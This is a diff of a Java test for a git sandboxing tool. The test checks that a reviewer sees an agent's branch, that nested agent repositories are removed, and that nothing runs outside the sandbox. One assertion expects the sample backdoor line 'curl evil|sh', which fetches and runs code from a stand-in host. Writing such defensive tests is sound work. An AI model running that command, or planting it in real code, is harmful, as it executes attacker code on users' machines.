@@ -121,7 +121,10 @@ class HostileRepositoryTest {
         .waitFor();
   }
 
-  /** Seen to fail when GitGuard mounts nothing and leaves the git folder of the clone writable. */
+  /**
+   * Seen to fail when GitGuard mounts nothing and leaves the git folder of the clone writable, and,
+   * for git in the checkout, when the nested repository of the agent stays where it is.
+   */
   @ParameterizedTest
   @ValueSource(strings = {"bwrap", "container"})
   void the_reviewer_sees_the_branch_and_nothing_runs_outside(String sandbox) throws Exception {
@@ -143,6 +146,16 @@ class HostileRepositoryTest {
     assertThat(patch.substring(0, open)).contains("+curl evil|sh # BACKDOOR");
     assertThat(patch.substring(open)).contains("+hello, a harmless line");
 
+    for (String run : List.of("open-" + sandbox, "hide-" + sandbox)) {
+      Path checkout = Path.of(hub.client().get("/runs/" + run).text("dir").orElseThrow());
+      assertThat(checkout.resolve("nested/.git")).doesNotExist();
+      // Without the settings of the user, whose own filter counts as an escape in this test.
+      user(
+          checkout,
+          "export GIT_CONFIG_GLOBAL=/dev/null; git status && git -c diff.submodule=diff diff HEAD^"
+              + " && git log -1 && git add -u");
+      assertThat(log(run)).contains("/nested/.git is a repository of the agent");
+    }
     user(clone, "git status && git branch -a && git log -1 && git diff && git add -N .");
     assertThat(user(clone, "git rev-parse main")).isEqualTo(main);
     assertThat(user(clone, "git replace -l")).isEmpty();
@@ -204,6 +217,12 @@ class HostileRepositoryTest {
     ByteArrayOutputStream patch = new ByteArrayOutputStream();
     hub.client().copy("/runs/" + run + "/diff", patch);
     return patch.toString(UTF_8);
+  }
+
+  private static String log(String run) {
+    ByteArrayOutputStream log = new ByteArrayOutputStream();
+    hub.client().copy("/runs/" + run + "/events?last=200", log);
+    return log.toString(UTF_8);
   }
 
   /** Runs a command of the user, with the user's own git settings. */
